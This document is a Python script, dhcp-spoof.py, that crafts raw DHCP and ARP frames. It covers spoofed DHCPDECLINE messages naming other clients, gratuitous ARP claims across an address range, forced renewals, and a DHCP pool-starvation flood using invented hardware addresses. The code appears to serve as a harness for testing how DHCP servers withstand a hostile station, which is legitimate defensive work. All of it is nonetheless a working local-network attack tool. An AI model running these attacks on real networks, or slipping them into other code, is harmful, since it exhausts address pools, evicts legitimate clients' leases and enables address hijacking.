#!/usr/bin/env python3
"""dhcp-spoof.py - craft DHCP and ARP frames on IFACE as a hostile (or a plain) station.

usage:
  dhcp-spoof.py decline IFACE CHADDR IP SERVER   DHCPDECLINE naming CHADDR and IP, sent from IFACE's MAC
  dhcp-spoof.py arp IFACE FIRST [LAST]           one gratuitous ARP per address FIRST..LAST from IFACE's MAC
  dhcp-spoof.py renew IFACE IP                   REQUEST (rebinding, ciaddr IP) as IFACE's MAC:
                                                 prints "ACK <yiaddr>", "NAK" or "none"
  dhcp-spoof.py flood IFACE N SERVER             N DISCOVERs with invented chaddrs from IFACE's MAC, then a
                                                 REQUEST for each offer: prints "offers X acks Y"
Frames go out of an AF_PACKET socket; replies are read on the same socket (broadcast flag set).
"""
import ipaddress
import os
import socket
import struct
import sys
import time


def mac_of(iface):
    with open("/sys/class/net/%s/address" % iface) as f:
        return bytes.fromhex(f.read().strip().replace(":", ""))


def ip4(s):
    return socket.inet_aton(s)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def dhcp_frame(src, chaddr, mtype, xid, ciaddr=b"\0" * 4, requested=None, server=None):
    bp = bytearray(240)
    bp[0:4] = b"\x01\x01\x06\x00"
    bp[4:8] = struct.pack("!I", xid)
    bp[10:12] = b"\x80\x00"  # broadcast flag: replies reach us whatever chaddr says
    bp[12:16] = ciaddr
    bp[28:34] = chaddr
    bp[236:240] = b"\x63\x82\x53\x63"
    opts = bytes([53, 1, mtype])
    if requested:
        opts += bytes([50, 4]) + requested
    if server:
        opts += bytes([54, 4]) + server
    body = bytes(bp) + opts + b"\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(body), 0) + body
    sip = ciaddr
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, sip, b"\xff" * 4)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return b"\xff" * 6 + src + b"\x08\x00" + hdr + udp


def arp_frame(src, ip):
    a = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + src + ip + b"\0" * 6 + ip
    return (b"\xff" * 6 + src + b"\x08\x06" + a).ljust(60, b"\0")


def replies(s, until, xids):
    """(xid, type, yiaddr) of DHCP replies for @xids until the monotonic time @until"""
    while True:
        left = until - time.monotonic()
        if left <= 0:
            return
        s.settimeout(left)
        try:
            f = s.recv(2048)
        except socket.timeout:
            return
        if len(f) < 42 + 240 or f[12:14] != b"\x08\x00" or f[23] != 17:
            continue
        ihl = (f[14] & 15) * 4
        udp = 14 + ihl
        if struct.unpack("!H", f[udp + 2:udp + 4])[0] != 68:
            continue
        bp = f[udp + 8:]
        if len(bp) < 240 or bp[0] != 2:
            continue
        xid = struct.unpack("!I", bp[4:8])[0]
        if xid not in xids:
            continue
        i, mtype = 240, 0
        while i + 1 < len(bp) and bp[i] != 255:
            if bp[i] == 0:
                i += 1
                continue
            if bp[i] == 53:
                mtype = bp[i + 2]
            i += 2 + bp[i + 1]
        yield xid, mtype, socket.inet_ntoa(bp[16:20])


def main():
    cmd, iface = sys.argv[1], sys.argv[2]
    src = mac_of(iface)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((iface, 0))
    base = struct.unpack("!I", os.urandom(4))[0] & 0x7FFFFF00
    if cmd == "decline":
        chaddr = bytes.fromhex(sys.argv[3].replace(":", ""))
        s.send(dhcp_frame(src, chaddr, 4, base, requested=ip4(sys.argv[4]), server=ip4(sys.argv[5])))
        print("sent a DECLINE for %s as %s from %s" % (sys.argv[4], sys.argv[3], src.hex(":")))
    elif cmd == "arp":
        first = ipaddress.IPv4Address(sys.argv[3])
        last = ipaddress.IPv4Address(sys.argv[4] if len(sys.argv) > 4 else sys.argv[3])
        n = 0
        for a in range(int(first), int(last) + 1):
            s.send(arp_frame(src, ipaddress.IPv4Address(a).packed))
            n += 1
        print("sent %d ARP packets from %s" % (n, src.hex(":")))
    elif cmd == "renew":
        got = "none"
        for attempt in range(3):
            xid = base + attempt
            s.send(dhcp_frame(src, src, 3, xid, ciaddr=ip4(sys.argv[3])))
            for _, mtype, yi in replies(s, time.monotonic() + 1.0, {xid}):
                got = "ACK " + yi if mtype == 5 else "NAK" if mtype == 6 else "type %d" % mtype
                break
            if got != "none":
                break
        print(got)
    elif cmd == "flood":
        n, server = int(sys.argv[3]), ip4(sys.argv[4])
        chaddrs = {base + i: bytes([2, 0x76, 0x6E, 0x32, i >> 8, i & 255]) for i in range(n)}
        for xid, ch in chaddrs.items():
            s.send(dhcp_frame(src, ch, 1, xid))
        offers = {}
        for xid, mtype, yi in replies(s, time.monotonic() + 2.0, set(chaddrs)):
            if mtype == 2:
                offers[xid] = yi
        for xid, yi in offers.items():
            s.send(dhcp_frame(src, chaddrs[xid], 3, xid, requested=ip4(yi), server=server))
        acks = set()
        if offers:
            for xid, mtype, _ in replies(s, time.monotonic() + 2.0, set(offers)):
                if mtype == 5:
                    acks.add(xid)
        print("offers %d acks %d" % (len(offers), len(acks)))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main()
